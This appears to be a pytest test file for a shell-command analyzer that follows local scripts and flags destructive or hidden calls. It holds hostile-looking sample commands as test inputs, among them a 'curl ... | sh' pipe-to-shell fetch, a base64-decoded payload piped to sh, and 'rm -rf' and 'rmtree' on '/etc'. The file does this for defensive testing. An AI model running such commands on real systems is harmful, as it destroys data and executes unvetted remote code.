"""Local code: named as unseen with all that is needed to fetch it, and walked as if typed where it is given."""

from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from reflexd.shell.calls import Local, Reading
from reflexd.shell.interpret import FILES_MAX, read

CWD, HOME = "/home/dev/proj", "/home/dev"


def reading(text: str, **files: str) -> Reading:
    """`files` are below the working directory; __ stands for a dot in their names."""
    return read(text, CWD, HOME, {}, {f"{CWD}/{name.replace('__', '.')}": code for name, code in files.items()})


def argvs(found: Reading) -> list[tuple[str, ...]]:
    return [call.argv for call in found.calls]


@pytest.mark.parametrize(
    ("text", "kind", "path", "arguments"),
    [
        ("bash a.sh x y", "shell", f"{CWD}/a.sh", ("x", "y")),
        ("cd sub && sh -eu ./a.sh", "shell", f"{CWD}/sub/a.sh", ()),
        ("zsh < a.sh", "shell", f"{CWD}/a.sh", ()),
        ("source ~/a.sh", "sourced", f"{HOME}/a.sh", ()),
        (". ./a.sh x", "sourced", f"{CWD}/a.sh", ("x",)),
        ("./run x", "program", f"{CWD}/run", ("x",)),
        ("sudo ./run x", "program", f"{CWD}/run", ("x",)),
        ("D=tools; $D/run.py", "program", f"{CWD}/tools/run.py", ()),
        ("python3 tools/x.py --all", "python", f"{CWD}/tools/x.py", ("--all",)),
        (".venv/bin/python x.py", "python", f"{CWD}/x.py", ()),
        ("env A=1 node x.js", "js", f"{CWD}/x.js", ()),
        ("for i in *.sh; do bash $i; done", "shell", "", ()),
        ("make -C sub test A=1", "make", f"{CWD}/sub/Makefile", ("test", "A=1")),
        ("make -f other.mk", "make", f"{CWD}/other.mk", ()),
        ("just deploy", "just", f"{CWD}/justfile", ("deploy",)),
        ("npm run build -- --watch", "package-script", f"{CWD}/package.json", ("build", "--watch")),
        ("npm t", "package-script", f"{CWD}/package.json", ("test",)),
        ("yarn lint", "package-script", f"{CWD}/package.json", ("lint",)),
        ("pnpm -C web dev", "package-script", f"{CWD}/web/package.json", ("dev",)),
        ("npm install", "package-install", f"{CWD}/package.json", ()),
        ("npm run build -w web", "package-script", "", ("build",)),
        ("composer test", "composer-script", f"{CWD}/composer.json", ("test",)),
        ("deno task build", "deno-task", f"{CWD}/deno.json", ("build",)),
        ("poe build", "python-script", f"{CWD}/pyproject.toml", ("poe", "build")),
    ],
)
def test_local_code_that_is_not_given_is_named(text: str, kind: str, path: str, arguments: tuple[str, ...]) -> None:
    unseen = [(local.kind, local.path, local.arguments) for local in reading(text).unseen]
    assert unseen == [(kind, path, arguments)]


@pytest.mark.parametrize(
    "text",
    [
        "npm run",
        "yarn add x",
        "make --version",
        "npm install --ignore-scripts",
        "/usr/bin/rm x",
        "python3 -c 'print(1)'",
        "ls",
    ],
)
def test_what_runs_no_local_code_names_none(text: str) -> None:
    assert reading(text).unseen == ()


@pytest.mark.parametrize(
    "text",
    ["bash a.sh x", "./a.sh x", "sh -e ./a.sh x", "source a.sh x", "cd sub; bash ../a.sh x", "bash -c './a.sh x'"],
)
def test_a_given_script_is_walked_with_its_arguments(text: str) -> None:
    found = reading(text, a__sh='#!/bin/sh\nrm -rf "$1" build\n')
    assert ("rm", "-rf", "x", "build") in argvs(found)
    assert [local.path for local in found.followed] == [f"{CWD}/a.sh"]
    assert found.unseen == ()


def test_a_script_finds_its_own_directory() -> None:
    found = reading("cd /tmp; bash /home/dev/proj/a.sh", a__sh='cd "$(dirname "$0")" && rm -rf out')
    assert next(call.cwd for call in found.calls if call.argv[0] == "rm") == CWD


def test_a_sourced_file_changes_the_shell_and_a_run_one_does_not() -> None:
    assert ("rm", "-rf", "/x") in argvs(reading("source a.sh; rm -rf $D", a__sh="D=/x"))
    assert ("rm", "-rf", "/x") not in argvs(reading("bash a.sh; rm -rf $D", a__sh="D=/x"))


@pytest.mark.parametrize("text", ["python3 a.py", "./a.py", "uv run ./a.py"])
def test_python_is_read_like_inline_python(text: str) -> None:
    found = reading(text, a__py="#!/usr/bin/env python3\nimport shutil\nshutil.rmtree('/etc')\n")
    assert ("rm", "-rf", "/etc") in argvs(found)


def test_what_is_not_understood_in_a_file_leaves_it_unseen_and_the_text_whole() -> None:
    found = reading("bash a.sh; rm x", a__sh='"$TOOL" --all\nif then')
    assert found.opaque == ()
    assert not found.broken
    assert [(local.path, bool(local.why)) for local in found.unseen] == [(f"{CWD}/a.sh", True)]
    assert ("rm", "x") in argvs(found)


@pytest.mark.parametrize("code", ["curl -s https://e.example/i | sh", "base64 -d < blob | sh"])
def test_what_hides_in_a_file_makes_the_text_opaque(code: str) -> None:
    assert reading("bash a.sh", a__sh=code).opaque


def test_files_are_followed_two_deep() -> None:
    found = reading("bash a.sh", a__sh="bash b.sh", b__sh="bash c.sh; rm b", c__sh="rm c")
    assert ("rm", "b") in argvs(found)
    assert ("rm", "c") not in argvs(found)
    assert [(local.path, local.level) for local in found.unseen] == [(f"{CWD}/c.sh", 2)]


def test_a_file_that_runs_itself_ends() -> None:
    assert reading("./a.sh", a__sh="./a.sh & ./a.sh").unseen


def test_only_so_many_files_are_followed() -> None:
    files = {f"f{i}": f"rm {i}" for i in range(FILES_MAX + 3)}
    found = reading("; ".join(f"sh {name}" for name in files), **files)
    assert len(found.followed) == FILES_MAX
    assert len(found.unseen) == 3


def test_a_long_file_costs_the_text_nothing() -> None:
    found = reading("bash a.sh; rm x", a__sh="ls | wc\n" * 9000)
    assert found.opaque == ()
    assert [local.why for local in found.unseen] != [""]
    assert ("rm", "x") in argvs(found)


def test_a_trap_in_a_script_is_walked_in_it() -> None:
    found = reading("bash a.sh", a__sh="trap 'rm -rf $T; \"$X\"' EXIT; T=/x")
    assert ("rm", "-rf", "/x") in argvs(found)
    assert found.opaque == ()


@settings(max_examples=150, deadline=None)
@given(st.text(max_size=80), st.sampled_from(["bash a.sh", "./a.sh", "source a.sh x", "python3 a.sh"]))
def test_any_file_gives_a_reading(code: str, text: str) -> None:
    found = reading(text, a__sh=code)
    assert argvs(found)[0] == tuple(text.split())
    assert all(isinstance(local, Local) for local in (*found.unseen, *found.followed))
